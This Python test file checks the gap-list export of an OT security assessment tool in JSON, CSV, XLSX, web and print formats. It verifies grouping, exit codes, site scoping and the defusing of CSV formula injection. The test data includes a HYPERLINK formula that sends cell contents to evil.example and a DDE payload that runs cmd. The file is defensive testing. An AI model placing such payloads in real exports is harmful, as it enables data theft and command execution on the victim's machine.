"""The gap list as it leaves the tool: `otcsms gaps` in every format, the page's downloads and printable view,
comments and evidence kept, formula injection defused, grouping by zone then FR, site scoping."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from typer.testing import CliRunner

from otcsms.assessments import gapexport, services

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def answered(site_a, library, zones, a_contributor):
    """Control (SL-T FR1 2, FR5 2) has three gaps in FR 1 and FR 5; the DMZ one; everything else is met."""
    assessment = services.create_assessment(
        site=site_a, framework=library["sr"], name="Baseline", assessor=a_contributor
    )
    req = {r.ref: r.pk for r in library["sr"].requirements.all()}
    control, dmz = zones["control"].pk, zones["dmz"].pk
    answers = [
        services.Answer(req["SR 1.1"], control, "not_met", comment=EVIL, evidence=["doc-17", "=cmd|'/c calc'!A1"]),
        services.Answer(req["SR 1.3"], control, "partially_met", comment="Two shared accounts left"),
        services.Answer(req["SR 5.1 RE 1"], control, "not_met", comment="Flat network"),
        services.Answer(req["SR 1.1 RE 1"], control, "met"),
        services.Answer(req["SR 5.1"], control, "met"),
        services.Answer(req["SR 5.1"], dmz, "partially_met", comment="Firewall rules not reviewed"),
    ]  # fmt: skip
    services.set_responses(assessment, answers, a_contributor)
    return assessment


def run(settings, *args: str):
    from otcsms.cli import app

    settings.SECRET_KEY_PERSISTENT = True  # the test database stands in for an initialised instance
    return CliRunner().invoke(app, ["gaps", "--site", "plant-a", *args])


def test_rows_are_grouped_by_zone_then_fr_with_the_zone_sl_t(answered):
    rows = gapexport.gap_rows(answered)
    # sl_required: the lowest SL selecting the requirement; zone_sl_t: the zone's target for its FR
    assert [(r.zone, r.fr, r.requirement, r.sl_required, r.zone_sl_t) for r in rows] == [
        ("Control", "FR 1", "SR 1.1", 1, 2), ("Control", "FR 1", "SR 1.3", 1, 2),
        ("Control", "FR 5", "SR 5.1 RE 1", 2, 2), ("OT DMZ", "FR 5", "SR 5.1", 1, 1),
    ]  # fmt: skip
    groups = gapexport.grouped(rows)
    assert [(g.zone, g.count, [(f.fr, len(f.rows)) for f in g.frs]) for g in groups] == [
        ("Control", 3, [("FR 1", 2), ("FR 5", 1)]), ("OT DMZ", 1, [("FR 5", 1)]),
    ]  # fmt: skip


def test_cli_json_keeps_comments_and_evidence(settings, answered):
    result = run(settings, "--framework", "iec62443-3-3", "--format", "json")
    assert result.exit_code == 1, result.output
    document = json.loads(result.stdout)
    first = document["gaps"][0]
    assert first == {
        "zone": "Control", "fr": "FR 1", "framework": "iec62443-3-3", "requirement": "SR 1.1",
        "title": "Identify humans", "sl_required": 1, "zone_sl_t": 2, "status": "not_met", "inherited_from": None,
        "owner": None, "comment": EVIL, "evidence": ["doc-17", "=cmd|'/c calc'!A1"],
    }  # fmt: skip
    assert [g["comment"] for g in document["gaps"]][1:] == [
        "Two shared accounts left",
        "Flat network",
        "Firewall rules not reviewed",
    ]
    legacy = run(settings, "--framework", "iec62443-3-3", "--json")
    assert legacy.exit_code == 1 and json.loads(legacy.stdout) == document


def test_cli_csv_escapes_formulas_and_keeps_comments(settings, answered, tmp_path):
    target = tmp_path / "gaps.csv"
    result = run(settings, "--framework", "iec62443-3-3", "--format", "csv", "-o", str(target))
    assert result.exit_code == 1, result.output
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert table[0] == list(gapexport.COLUMNS)
    assert len(table) == 5
    first = dict(zip(table[0], table[1], strict=True))
    assert first["comment"] == "'" + EVIL  # shown as text, never run
    assert first["evidence"] == "doc-17\n=cmd|'/c calc'!A1"
    assert (first["zone"], first["fr"], first["sl_required"], first["zone_sl_t"], first["status"]) == (
        "Control",
        "FR 1",
        "1",
        "2",
        "not_met",
    )
    comment = gapexport.COLUMNS.index("comment")
    assert [row[comment] for row in table[2:]] == [
        "Two shared accounts left",
        "Flat network",
        "Firewall rules not reviewed",
    ]


def test_cli_xlsx_escapes_formulas(settings, answered, tmp_path):
    target = tmp_path / "gaps.xlsx"
    result = run(settings, "--framework", "iec62443-3-3", "--format", "xlsx", "-o", str(target))
    assert result.exit_code == 1, result.output
    sheet = openpyxl.load_workbook(target).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == list(gapexport.COLUMNS) and len(rows) == 5
    assert rows[1][gapexport.COLUMNS.index("comment")] == "'" + EVIL
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value is not None)
    assert rows[4][gapexport.COLUMNS.index("comment")] == "Firewall rules not reviewed"


def test_cli_table_shows_groups_and_comments(settings, answered):
    result = run(settings, "--framework", "iec62443-3-3")
    assert result.exit_code == 1, result.output
    assert (
        "Baseline: 4 gaps" in result.stdout and "Control (3)" in result.stdout and "FR 5 (1)" in result.stdout
    )
    assert "comment: Flat network" in result.stdout and "evidence: doc-17" in result.stdout
    assert "SR 5.1 RE 1    from SL2, zone SL-T 2  Physical segmentation" in result.stdout


def test_cli_no_gaps_exits_0(settings, site_a, library, zones, a_contributor):
    services.create_assessment(site=site_a, framework=library["sr"], name="Empty", assessor=a_contributor)
    result = run(settings, "--framework", "iec62443-3-3", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert result.stdout.lstrip("\ufeff").strip() == ",".join(f'"{c}"' for c in gapexport.COLUMNS)


@pytest.mark.parametrize("given", ["IEC 62443-3-3", "iec62443-33", "IEC62443-3-3"])
def test_cli_did_you_mean(settings, answered, given):
    result = run(settings, "--framework", given)
    assert result.exit_code == 2
    assert f"unknown framework '{given}'; did you mean iec62443-3-3?" in result.output
    assert "no assessment" not in result.output


def test_cli_bad_usage_exits_2(settings, answered):
    assert run(settings, "--framework", "iec62443-3-3", "--format", "pdf").exit_code == 2
    assert run(settings, "--framework", "iec62443-3-3", "--format", "csv", "--json").exit_code == 2
    nothing = run(settings, "--framework", "nist-sp800-53r5")
    assert nothing.exit_code == 2 and "no assessment of 'nist-sp800-53r5'" in nothing.output
    unknown = run(settings, "--framework", "zzzz")
    assert unknown.exit_code == 2 and "unknown framework 'zzzz'; known keys:" in unknown.output


def test_page_groups_gaps_and_offers_downloads(a_contributor, answered):
    page = logged_in(a_contributor).get(reverse("web:assessment_detail", args=[answered.pk])).content.decode()
    assert "Gaps (4)" in page and "Download CSV" in page and "Download XLSX" in page and "Printable" in page
    page = page[page.index('id="gaps-heading"') :]
    assert page.index("Control") < page.index("FR 1") < page.index("SR 1.3") < page.index("Flat network")
    assert (
        'Control <span class="muted">(3)</span>' in page
        and "Two shared accounts left" in page
        and "doc-17" in page
    )
    assert EVIL not in page and "=HYPERLINK(&quot;" in page  # escaped as HTML


def test_downloads(a_contributor, answered):
    client = logged_in(a_contributor)
    r = client.get(reverse("web:assessment_gaps_csv", args=[answered.pk]))
    assert r.status_code == 200 and r["Content-Type"] == "text/csv; charset=utf-8"
    assert r["Content-Disposition"].startswith('attachment; filename="plant-a-iec62443-3-3-gaps-')
    table = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    comment = gapexport.COLUMNS.index("comment")
    assert len(table) == 5 and table[1][comment] == "'" + EVIL and table[4][0] == "OT DMZ"
    r = client.get(reverse("web:assessment_gaps_xlsx", args=[answered.pk]))
    assert r.status_code == 200 and r["Content-Type"] == gapexport.CONTENT_TYPES["xlsx"]
    rows = list(openpyxl.load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    assert len(rows) == 5 and rows[1][comment] == "'" + EVIL
    assert client.get(f"/assessments/{answered.pk}/gaps.pdf").status_code == 404
    r = client.get(reverse("web:assessment_gaps_print", args=[answered.pk]))
    text = r.content.decode()
    assert r.status_code == 200 and "@media print" in text and "<nav" not in text
    assert "Firewall rules not reviewed" in text and "doc-17" in text and "4 gaps" in text


def test_outsider_and_other_site_get_404(outsider, b_viewer, answered):
    urls = [reverse("web:assessment_gaps_csv", args=[answered.pk]),
            reverse("web:assessment_gaps_xlsx", args=[answered.pk]),
            reverse("web:assessment_gaps_print", args=[answered.pk])]  # fmt: skip
    for user in (outsider, b_viewer):
        client = logged_in(user)
        for url in urls:
            assert client.get(url).status_code == 404, (user, url)
    assert Client().get(urls[0]).status_code == 302  # anonymous: to the login page


def test_site_wide_framework_has_no_zone_or_sl(settings, site_a, library, a_contributor):
    assessment = services.create_assessment(
        site=site_a, framework=library["nist"], name="NIST", assessor=a_contributor
    )
    ac2 = library["nist"].requirements.get(ref="AC-2").pk
    services.set_response(
        assessment, services.Answer(ac2, None, "not_met", comment="No reviews"), a_contributor
    )
    result = run(settings, "--framework", "NIST SP 800-53", "--format", "json")
    assert result.exit_code == 2 and "did you mean nist-sp800-53r5?" in result.output
    result = run(settings, "--framework", "nist-sp800-53r5", "--format", "json")
    assert result.exit_code == 1
    [gap] = json.loads(result.stdout)["gaps"]
    assert (gap["zone"], gap["fr"], gap["sl_required"], gap["comment"]) == (None, "AC", None, "No reviews")
    page = (
        logged_in(a_contributor).get(reverse("web:assessment_detail", args=[assessment.pk])).content.decode()
    )
    assert "Site-wide" in page and "No reviews" in page
